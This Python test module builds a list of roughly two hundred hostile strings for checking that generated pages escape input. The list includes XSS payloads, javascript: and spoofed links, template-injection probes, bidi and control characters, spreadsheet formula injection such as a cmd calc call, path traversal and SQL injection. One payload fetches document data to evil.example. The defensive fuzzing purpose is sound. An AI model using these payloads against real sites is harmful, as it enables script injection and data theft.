"""Two hundred hostile strings, written by us for the tests of the pages: markup, links, islands, directions, formulas, templates, paths."""

_SCRIPT = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror={}>', "'><img src=x onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>", "<a href='javascript:{}' onclick={}>href</a>", "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<input autofocus onfocus={}>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x</button></form>", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/x.css onload={}>",
    "<style>*{{background:url(javascript:{})}}</style>", "</style><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "<!--<script>{}</script>-->", "--><script>{}</script><!--", "]]><script>{}</script>",
    "</template><script>{}</script>", "</noscript><script>{}</script>", "<noscript><p title='</noscript><script>{}</script>'>",
)  # fmt: skip
_CALLS = ("hit(1)", "window.hit=1", "parent.hit=1", "fetch('https://evil.example/'+document.title)")

_LINKS = (
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)", "java\nscript:hit(1)", "\x01javascript:hit(1)",
    "javascript&colon;hit(1)", "javascript&#58;hit(1)", "data:text/html,<script>hit(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:hit(1)", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "https://good.example@evil.example/",
    "https://evil.example/\"onmouseover=hit(1)", "https://evil.example/'onmouseover='hit(1)", "http://[::1", "http:///x", "https://",
    "blob:https://evil.example/1", "view-source:https://evil.example", "https://evil.example/\u202egnp.exe",
    "mailto:x@evil.example?body=href",
    "href", "href=", "title href onclick", "https://doi.org/10.5555/\" onfocus=hit(1) x=\"",
)  # fmt: skip

_ISLAND = (
    "</script>", "</SCRIPT >", "<!--", "<!--<script>", "]]>", "\u2028hit(1)\u2029", '"}];hit(1);//', "'];hit(1);//",
    "\\u003cscript\\u003e",
    "\\", "\\\"", "\\x3cscript\\x3e", "${hit(1)}", "`${hit(1)}`", "__proto__", "constructor", "toString", "*/hit(1)/*",
    "//# sourceMappingURL=x",
    "{{ 7*7 }}", "{% raw %}", "{{ self.__init__.__globals__ }}", "{# #}", "%s%n%x", "{0}{x.__class__}", "<%= 7*7 %>", "#{7*7}",
)  # fmt: skip

_TURNED = (
    "\u202egnitset\u202c", "\u202eevil never closed", "\u2066isolate never closed", "a\u2069\u2069b", "\u202a\u202b\u202c",
    "\u200eleft\u200f",
    "שלום עולם", "مرحبا بالعالم", "אבג <b>def</b> \u202e", "\u061cmark", "null\x00byte", "bell\x07", "escape\x1b[31mred",
    "\x7fdelete", "\x85next",
    "\ud800 lone", "\udfff low", "\ufffe nonchar", "\uffff last", "\ufeffbom", "zero\u200bwidth\u200djoin", "e\u0301\u0301\u0301\u0301",
    "𝕳𝖊𝖑𝖑𝖔", "👩‍👩‍👧‍👦", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﷺ" * 12, "long" * 700, "w" * 900,
    "tab\tand\nline\r\nend",
)  # fmt: skip

_SHEETS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "=IMPORTXML(A1,B1)",
    "=WEBSERVICE(\"https://evil.example\")", "|pipe|table|", "[x](javascript:hit(1))", "![x](https://evil.example/x.png)",
    "# heading", "<br>",
    "`code`", "***", "- [ ] task", "| --- |", "~~~",
)  # fmt: skip

_PATHS = (
    "../../etc/passwd", "..\\..\\x", "/absolute", "C:\\x", "con", "nul.html", "a/b", "a?b#c", "%2e%2e%2f", "index.html",
    "study/study-1.html",
    "name with spaces", "ünïcödé", ".hidden", "trailing.", "&amp;", "&lt;script&gt;", "&#60;script&#62;", "'", '"', "<", ">", "&",
    ";", "<b>bold</b>",
    "'; DROP TABLE studies; --", "\" } UNION { ?s ?p ?o } #", "<http://evil.example/iri>", "onload", "style", "class=\"x\"",
    "data-view=graph",
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [text.format(*[_CALLS[at % len(_CALLS)]] * 2) for at, text in enumerate(_SCRIPT)]
        + [text.format(*[_CALLS[(at + 1) % len(_CALLS)]] * 2) for at, text in enumerate(_SCRIPT)]
        + [*_LINKS, *_ISLAND, *_TURNED, *_SHEETS, *_PATHS]
    )
)
